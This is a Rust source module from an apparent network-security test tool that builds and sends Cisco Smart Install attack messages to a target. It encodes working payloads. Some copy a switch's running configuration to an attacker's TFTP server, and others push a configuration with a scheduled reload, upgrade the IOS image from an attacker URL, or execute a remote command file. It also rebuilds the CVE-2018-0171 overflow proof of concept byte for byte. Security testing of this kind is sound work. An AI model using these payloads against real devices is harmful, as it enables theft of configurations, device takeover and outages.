//! `ztpgate sim attack`: the Smart Install attack corpus, built with the `proto::vstack` codec
//! from the layouts public tools send (smart-install.md §3), and a sender that delivers one
//! corpus entry to a target and reports what came back ([`send()`]).
//!
//! | Mode | What | Source (§) |
//! |---|---|---|
//! | `test` | 24-byte hello probe (SIET `-t`) | §3.1 |
//! | `talos` | the same probe as Cisco-Talos smi_check | §3.1 |
//! | `greenbone` | 17-byte short probe | §3.3 |
//! | `legacy-test` | config push of `random_file`, no reload (SIET 2016 `-t`) | §3.4 |
//! | `get-config` | copy commands: running config to flash, flash to `tftp://H/<target>.conf` (SIET `-g`) | §3.5 |
//! | `msf-download` | one copy command, running config to `tftp://H/<8 letters>` (Metasploit) | §3.5 |
//! | `change-config` | config push of `tftp://H/<target>.conf`, reload at 00:01 (SIET `-C`) | §3.4 |
//! | `update-ios` | image upgrade from `tftp://H/tar_imglist0.txt`, immediate (SIET `-u`) | §3.6 |
//! | `execute` | execute `tftp://H/execute.txt` (SIET `-e`, `w0 = 2`) | §3.7 |
//! | `cve-2018-0171` | the Embedi PoC, 2288 bytes, header length 0xd8 | §3.8 |
//! | `split` | the get-config message in four segments | §2.1 |
//! | `pipelined` | probe and get-config in one segment | §2.1 |
//!
//! Trust: a test tool; it sends whatever the operator asks, to the target the operator names.

pub mod send;

pub use send::{Outcome, Report, send};

use crate::proto::vstack::{
    Body, ConfigPush, CopyCommands, EncodeError, Execute, ImageUpgrade, InitDiscovery, Message,
    Probe, ReloadSchedule, UpgradeTiming,
};

/// One attack mode.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Mode {
    /// 24-byte hello probe (SIET -t).
    Test,
    /// Talos smi_check probe (same bytes as test).
    Talos,
    /// 17-byte Greenbone probe.
    Greenbone,
    /// Config push of random_file without reload (SIET 2016 -t).
    LegacyTest,
    /// Running-config exfiltration via copy commands (SIET -g).
    GetConfig,
    /// Metasploit DOWNLOAD action (one copy command).
    MsfDownload,
    /// Config push with reload at 00:01 (SIET -C).
    ChangeConfig,
    /// Image upgrade via image list (SIET -u).
    UpdateIos,
    /// Execute a command file (SIET -e).
    Execute,
    /// Embedi CVE-2018-0171 PoC.
    #[value(name = "cve-2018-0171")]
    Cve20180171,
    /// get-config split across four TCP segments.
    Split,
    /// Probe and get-config in one TCP segment.
    Pipelined,
}

impl Mode {
    /// Every mode, in table order.
    pub const ALL: [Self; 12] = [
        Self::Test,
        Self::Talos,
        Self::Greenbone,
        Self::LegacyTest,
        Self::GetConfig,
        Self::MsfDownload,
        Self::ChangeConfig,
        Self::UpdateIos,
        Self::Execute,
        Self::Cve20180171,
        Self::Split,
        Self::Pipelined,
    ];

    /// The mode's CLI name.
    pub fn name(self) -> &'static str {
        match self {
            Self::Test => "test",
            Self::Talos => "talos",
            Self::Greenbone => "greenbone",
            Self::LegacyTest => "legacy-test",
            Self::GetConfig => "get-config",
            Self::MsfDownload => "msf-download",
            Self::ChangeConfig => "change-config",
            Self::UpdateIos => "update-ios",
            Self::Execute => "execute",
            Self::Cve20180171 => "cve-2018-0171",
            Self::Split => "split",
            Self::Pipelined => "pipelined",
        }
    }

    /// One-line description for `--list`.
    pub fn describe(self) -> &'static str {
        match self {
            Self::Test => "24-byte hello probe (SIET -t, §3.1)",
            Self::Talos => "Cisco-Talos smi_check probe (§3.1)",
            Self::Greenbone => "17-byte Greenbone probe (§3.3)",
            Self::LegacyTest => "config push of tftp://H/random_file, no reload (§3.4)",
            Self::GetConfig => "copy running-config to tftp://H/<target>.conf (SIET -g, §3.5)",
            Self::MsfDownload => "copy system:running-config tftp://H/<name> (Metasploit, §3.5)",
            Self::ChangeConfig => "config push tftp://H/<target>.conf, reload 00:01 (§3.4)",
            Self::UpdateIos => "image upgrade from tftp://H/tar_imglist0.txt (SIET -u, §3.6)",
            Self::Execute => "execute tftp://H/execute.txt (SIET -e, §3.7)",
            Self::Cve20180171 => "Embedi CVE-2018-0171 PoC, 2288 bytes (§3.8)",
            Self::Split => "get-config in four TCP segments (§2.1)",
            Self::Pipelined => "probe + get-config in one TCP segment (§2.1)",
        }
    }
}

/// Values the corpus is built from.
#[derive(Clone, Debug)]
pub struct Params {
    /// TFTP host written into URLs (the attacker's server).
    pub tftp_host: String,
    /// The target's address as written into file names (SIET uses `<target-ip>.conf`).
    pub target_name: String,
    /// File name override for the modes that name a file.
    pub file: Option<String>,
}

/// A corpus entry: the segments to write, in order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Payload {
    /// Each element is written separately (with `TCP_NODELAY` and a pause in between).
    pub segments: Vec<Vec<u8>>,
}

impl Payload {
    fn one(bytes: Vec<u8>) -> Self {
        Self {
            segments: vec![bytes],
        }
    }

    /// All bytes, concatenated (what `--dump` writes).
    pub fn bytes(&self) -> Vec<u8> {
        self.segments.concat()
    }
}

/// Builds the corpus entry for `mode`.
pub fn build(mode: Mode, p: &Params) -> Result<Payload, EncodeError> {
    let url = |default: &str| {
        let file = p.file.as_deref().unwrap_or(default);
        format!("tftp://{}/{file}", p.tftp_host)
    };
    let target_conf = format!("{}.conf", p.target_name);
    let enc = |body: Body| Message::new(body).encode();
    Ok(match mode {
        Mode::Test | Mode::Talos => Payload::one(enc(Body::Probe(Probe::HELLO))?),
        Mode::Greenbone => Payload::one(enc(Body::Probe(Probe::SHORT))?),
        Mode::LegacyTest => {
            let push = ConfigPush::new(url("random_file").as_bytes(), ReloadSchedule::none())?;
            Payload::one(enc(Body::ConfigPush(push))?)
        }
        Mode::GetConfig => Payload::one(get_config(&url(&target_conf))?),
        Mode::MsfDownload => {
            let cmd = format!("copy system:running-config {}", url("msfcfgdl"));
            Payload::one(enc(Body::CopyCommands(CopyCommands::new(&[cmd])?))?)
        }
        Mode::ChangeConfig => {
            let push = ConfigPush::new(url(&target_conf).as_bytes(), ReloadSchedule::at(0, 1)?)?;
            Payload::one(enc(Body::ConfigPush(push))?)
        }
        Mode::UpdateIos => {
            let list = url("tar_imglist0.txt");
            let up = ImageUpgrade::new(list.as_bytes(), UpgradeTiming::Immediate)?;
            Payload::one(enc(Body::ImageUpgrade(up))?)
        }
        Mode::Execute => {
            let ex = Execute::new(url("execute.txt").as_bytes())?;
            Payload::one(enc(Body::Execute(ex))?)
        }
        Mode::Cve20180171 => Payload::one(embedi_poc()?),
        Mode::Split => {
            let bytes = get_config(&url(&target_conf))?;
            Payload {
                segments: bytes.chunks(262).map(<[u8]>::to_vec).collect(),
            }
        }
        Mode::Pipelined => {
            let mut bytes = enc(Body::Probe(Probe::HELLO))?;
            bytes.extend(get_config(&url(&target_conf))?);
            Payload::one(bytes)
        }
    })
}

/// SIET `-g`: copy the running config to flash, then flash to the TFTP URL (§3.5).
fn get_config(url: &str) -> Result<Vec<u8>, EncodeError> {
    let commands = [
        "copy system:running-config flash:/config.text".to_owned(),
        format!("copy flash:/config.text {url}"),
    ];
    Message::new(Body::CopyCommands(CopyCommands::new(&commands)?)).encode()
}

/// The Embedi CVE-2018-0171 PoC byte for byte (§3.8): TLV 1 declaring 0xd8 bytes but carrying
/// 36 × `A`, u32 0x8d8, 176 × `B` and 2048 × `D`, under a header that also declares 0xd8.
fn embedi_poc() -> Result<Vec<u8>, EncodeError> {
    const DECLARED: u32 = 0xd8;
    let mut payload = Vec::with_capacity(2272);
    payload.extend_from_slice(&1u32.to_be_bytes());
    payload.extend_from_slice(&DECLARED.to_be_bytes());
    payload.extend(std::iter::repeat_n(b'A', 36));
    payload.extend_from_slice(&0x8d8u32.to_be_bytes());
    payload.extend(std::iter::repeat_n(b'B', 176));
    payload.extend(std::iter::repeat_n(b'D', 2048));
    let body = Body::InitDiscovery(InitDiscovery::from_payload(&payload));
    Message::new(body).danger_encode_with_declared_length(DECLARED)
}

#[cfg(test)]
mod tests;
